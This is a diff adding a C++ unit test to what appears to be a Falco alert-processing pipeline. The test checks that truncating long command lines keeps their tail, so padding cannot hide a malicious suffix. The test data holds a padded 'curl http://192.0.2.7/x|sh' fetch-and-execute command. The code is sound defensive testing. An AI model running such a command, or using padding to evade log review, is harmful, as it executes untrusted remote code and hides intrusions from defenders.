@@ -3,6 +3,8 @@
 
 #include <gtest/gtest.h>
 
+#include "schemas/sighting.h"
+
 namespace gyre::stages {
 namespace {
 
@@ -62,6 +64,21 @@ TEST(Understand, ASensorSpeaksOfItselfWhateverContainerItRunsIn) {
   EXPECT_EQ(is.rule, "Sensor health");
   EXPECT_EQ(drop.field("rule"), "Falco internal: syscall event drop");
   EXPECT_FALSE(is.heartbeat);
+}
+
+TEST(Understand, APaddingHidesNothingBehindIt) {
+  const std::string line = "sh -c : " + std::string(400, 'A') + "; curl http://192.0.2.7/x|sh";
+  schemas::Alert padded = alert();
+  padded.fields.set("proc.cmdline", line);
+  padded.output = std::string(2'000, 'o') + line;
+  const Understanding is = understood(padded, kNoTime);
+  EXPECT_LE(padded.field("proc.cmdline").size(), schemas::kValueBytes);
+  for (const std::string_view kept :
+       {padded.field("proc.cmdline"), std::string_view(padded.output)})
+    EXPECT_TRUE(kept.ends_with("A; curl http://192.0.2.7/x|sh")) << kept;
+  schemas::Alert other = alert();
+  other.fields.set("proc.cmdline", line + "1");
+  EXPECT_NE(understood(other, kNoTime).finding_key, is.finding_key);
 }
 
 TEST(Understand, LongNamesAreCutAndStillToldApart) {
